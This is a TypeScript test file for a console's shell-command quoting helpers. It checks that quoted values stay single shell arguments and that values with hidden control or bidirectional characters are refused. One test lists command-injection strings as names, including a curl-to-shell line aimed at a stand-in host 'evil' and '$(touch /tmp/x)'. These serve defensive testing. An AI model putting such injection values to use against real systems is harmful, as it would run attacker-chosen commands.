import { execFileSync } from 'node:child_process'
import fc from 'fast-check'
import { describe, expect, it } from 'vitest'
import { isUnsafe, quoted, shell } from '../../console/src/parts/shell-command.ts'

/** What a POSIX shell gives to a program as its arguments. */
function argumentsOf(words: string): readonly string[] {
  const printed = execFileSync('sh', ['-c', `for word in ${words}; do printf '%s\\0' "$word"; done`])
  return printed.toString().split('\0').slice(0, -1)
}

describe('console: commands to copy', () => {
  it('are one word for the shell, whatever a value contains', () => {
    const texts = fc.array(
      fc.string({ unit: 'grapheme', minLength: 1 }).filter((text) => !isUnsafe(text)),
      { minLength: 1, maxLength: 40 },
    )
    fc.assert(
      fc.property(texts, (values) => {
        expect(argumentsOf(values.map(quoted).join(' '))).toEqual(values)
      }),
      { numRuns: 60 },
    )
  })

  it('run nothing that a name contains', () => {
    const names = [
      "'; curl evil|sh #",
      '$(touch /tmp/x)',
      '`id`',
      '"; id; "',
      '!!',
      '\\',
      "'",
      '~',
      '*',
      '-rf',
      'a&b',
    ]
    expect(argumentsOf(names.map(quoted).join(' '))).toEqual(names)
  })

  it('are not offered with a value that the eye cannot check', () => {
    for (const value of [
      'a\nb',
      'a\u0000',
      'a\u001b[31m',
      'a\u202Eb',
      'a\u2066b',
      'a\u200Bb',
      'a\u2028b',
      'a\uD800',
      '\uFEFF',
    ])
      expect([value, shell`curl ${value}`]).toEqual([value, undefined])
    expect(shell`curl ${'http://a/b'} -d ${'Grüße 🎉'}`).toBe("curl http://a/b -d 'Grüße 🎉'")
  })
})
